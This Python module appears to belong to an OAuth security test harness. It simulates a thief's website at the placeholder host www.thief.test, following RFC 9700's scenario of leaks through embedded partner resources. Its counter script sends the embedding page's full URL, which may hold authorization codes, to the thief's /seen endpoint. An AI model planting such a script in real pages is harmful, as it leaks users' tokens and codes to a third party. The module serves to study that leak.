"""The thief's web site: pages that victims visit, and what other people's pages load from it.

A picture and a script are what partners put on their own pages (RFC 9700 section 4.2.1). What the
requests for them, and the script, bring home is for the wiretap to read.
"""

from collections.abc import Callable

from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import Response
from starlette.routing import Route

from attacker.redirect_handlers import bait, opener

HOST = "www.thief.test"
ADDRESS = f"https://{HOST}"
CALLBACK = "/callback"
"""Where the provider sends the users of an app that the thief has registered."""
API = f"{ADDRESS}/api"
"""A service of the thief's that honest clients call for their users."""
CARRIER = "at"
"""The parameter in which a script of the thief's brings home the address of a page."""

_BADGE = '<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"/>'

# As counters of visitors do: the address of the page is the name under which the visit is counted.
_COUNTER = f"""
new Image().src = "{ADDRESS}/seen?{CARRIER}=" + encodeURIComponent(location.href);
"""

_HOME = """<!doctype html><html lang="en"><meta charset="utf-8"><title>Partner</title>
<p>Welcome.</p><script src="/counter.js"></script></html>
"""


def web_site_app() -> Starlette:
    """Serve a page, the badge, the script, and the picture by which the script reports."""
    return Starlette(
        routes=[
            Route("/", _constant(_HOME, "text/html")),
            Route("/badge.svg", _constant(_BADGE, "image/svg+xml")),
            Route("/counter.js", _constant(_COUNTER, "text/javascript")),
            Route("/seen", _constant(_BADGE, "image/svg+xml")),
            Route(bait.PATH, bait.show),
            Route(opener.PATH, opener.page_that_reports_to(f"/seen?{CARRIER}=")),
            Route(bait.CLICKED, _constant(_BADGE, "image/svg+xml")),
            Route("/api", _constant("{}", "application/json")),
            Route(CALLBACK, _constant("Thank you.", "text/plain"), methods=["GET", "POST"]),
        ]
    )


def _constant(text: str, media_type: str) -> Callable[[Request], Response]:
    def answer(request: Request) -> Response:
        # Nothing is cached, or the second play would show no sign of life.
        return Response(text, media_type=media_type, headers={"Cache-Control": "no-store"})

    return answer
